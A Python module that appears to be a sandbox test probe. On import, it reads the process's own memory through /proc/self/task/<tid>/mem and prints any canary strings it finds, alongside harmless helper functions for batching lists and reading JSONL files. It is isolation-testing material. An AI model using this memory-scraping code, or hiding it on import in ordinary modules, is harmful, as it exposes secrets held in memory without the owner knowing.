"""Attack: secrets: the worker reads its own memory through /proc/self/task/<tid>/mem.

Anything that looks like the test's canary (or an API key) found in the
worker's memory is printed, so the corpus sees it leak.
"""
import json
import os
import re
import threading



def _scan(fd):
    found = set()
    with open(f"/proc/self/task/{threading.get_native_id()}/maps") as f:
        maps = f.read().splitlines()
    for line in maps:
        addr, perms = line.split()[:2]
        if "r" not in perms:
            continue
        lo, hi = (int(x, 16) for x in addr.split("-"))
        try:
            data = os.pread(fd, hi - lo, lo)
        except OSError:
            continue
        found.update(m.group().decode() for m in re.finditer(rb"can" rb"ary-[0-9a-f]{24}", data))
    return found


try:
    _fd = os.open(f"/proc/self/task/{threading.get_native_id()}/mem", os.O_RDONLY)
    print("leaked:", sorted(_scan(_fd)))
except OSError as exc:
    print("refused:", exc)


def batched(iterable, size):
    if size < 1:
        raise ValueError(f"size must be at least 1, got {size}")
    items = list(iterable)
    return [items[i:i + size] for i in range(0, len(items), size)]


def read_jsonl(path):
    with open(path, encoding="utf-8") as f:
        return [json.loads(line) for line in f if line.strip()]
